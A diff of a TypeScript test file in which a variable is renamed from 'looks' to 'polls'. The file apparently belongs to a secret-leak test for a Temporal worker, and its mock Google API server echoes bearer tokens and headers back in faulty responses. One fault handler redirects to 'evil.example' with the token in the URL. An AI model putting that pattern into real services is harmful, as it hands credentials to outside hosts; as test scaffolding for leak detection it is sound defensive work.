@@ -44,33 +44,33 @@ const operation = (name: string, more: object): Reply => ({
   body: JSON.stringify({ name, ...more }),
 });
 
-/** How each operation's server says what it was sent; by the id of the operation. `looks` counts from 1. */
-const faults: Record<string, (seen: Seen, name: string, looks: number) => Reply> = {
-  message: (seen, name, looks) => (looks > 2 ? operation(name, { done: true }) : rpc(503, 'UNAVAILABLE', all(seen))),
-  details: (seen, name, looks) =>
-    looks > 2
+/** The answers that repeat what the server was sent, by the id of the operation. `polls` counts from 1. */
+const faults: Record<string, (seen: Seen, name: string, polls: number) => Reply> = {
+  message: (seen, name, polls) => (polls > 2 ? operation(name, { done: true }) : rpc(503, 'UNAVAILABLE', all(seen))),
+  details: (seen, name, polls) =>
+    polls > 2
       ? operation(name, { done: true })
       : rpc(500, 'INTERNAL', bearer(seen), [
           { '@type': 'x/google.rpc.ErrorInfo', reason: bearer(seen), metadata: seen.headers },
         ]),
-  title: (seen, name, looks) =>
-    looks > 2
+  title: (seen, name, polls) =>
+    polls > 2
       ? operation(name, { done: true })
       : {
           status: 502,
           headers: { 'content-type': 'text/html' },
           body: `<title>${all(seen)}</title>${bearer(seen).slice(7)}`,
         },
-  redirect: (seen, name, looks) =>
-    looks > 2
+  redirect: (seen, name, polls) =>
+    polls > 2
       ? operation(name, { done: true })
       : { status: 302, headers: { location: `https://evil.example/?${bearer(seen)}` }, body: bearer(seen) },
   page: (seen) => ({ status: 404, headers: { 'content-type': bearer(seen) }, body: bearer(seen).slice(7) }),
   denied: (seen) => rpc(403, 'PERMISSION_DENIED', all(seen)),
   argument: (seen) => rpc(400, 'INVALID_ARGUMENT', `${bearer(seen).slice(7)} is bad`),
-  metadata: (seen, name, looks) =>
+  metadata: (seen, name, polls) =>
     operation(name, {
-      done: looks > 2,
+      done: polls > 2,
       metadata: { headers: seen.headers, [bearer(seen)]: 1 },
       response: { echo: all(seen) },
     }),
@@ -83,10 +83,10 @@ const faults: Record<string, (seen: Seen, name: string, looks: number) => Reply>
     seen.url.endsWith(':cancel')
       ? rpc(400, 'FAILED_PRECONDITION', `${all(seen)} ${bearer(seen).slice(7)}`)
       : operation(name, { done: false }),
-  renamed: (seen, name, looks) =>
-    looks > 2 ? operation(name, { done: true }) : operation(`x/${bearer(seen).slice(7)}`, { done: true }),
-  cut: (seen, name, looks) =>
-    looks > 2 ? operation(name, { done: true }) : { status: 200, headers: json, body: `{"name":"${bearer(seen)}` },
+  renamed: (seen, name, polls) =>
+    polls > 2 ? operation(name, { done: true }) : operation(`x/${bearer(seen).slice(7)}`, { done: true }),
+  cut: (seen, name, polls) =>
+    polls > 2 ? operation(name, { done: true }) : { status: 200, headers: json, body: `{"name":"${bearer(seen)}` },
 };
 
 describe('the secrets of a worker', { timeout: 300_000 }, () => {
@@ -98,7 +98,7 @@ describe('the secrets of a worker', { timeout: 300_000 }, () => {
   let worker: WorkerProcess;
   let metricsAddress: string;
   const handles: Handle[] = [];
-  const looks = new Map<string, number>();
+  const polls = new Map<string, number>();
 
   before(async () => {
     temporal = await testTemporal();
@@ -106,9 +106,9 @@ describe('the secrets of a worker', { timeout: 300_000 }, () => {
     client = new Client({ connection });
     google = await loopback('https', (seen, response) => {
       const name = /^\/v1beta1\/([^:?]+)/.exec(seen.url)?.[1] ?? '';
-      const isLook = seen.method === 'GET' || seen.url.includes(':wait');
-      const number = (looks.get(name) ?? 0) + (isLook ? 1 : 0);
-      looks.set(name, number);
+      const isPoll = seen.method === 'GET' || seen.url.includes(':wait');
+      const number = (polls.get(name) ?? 0) + (isPoll ? 1 : 0);
+      polls.set(name, number);
       const fault = faults[name.split('/').at(-1) ?? ''];
       const { status, headers = {}, body } = fault?.(seen, name, number) ?? rpc(404, 'NOT_FOUND', 'no');
       response.writeHead(status, headers).end(body);
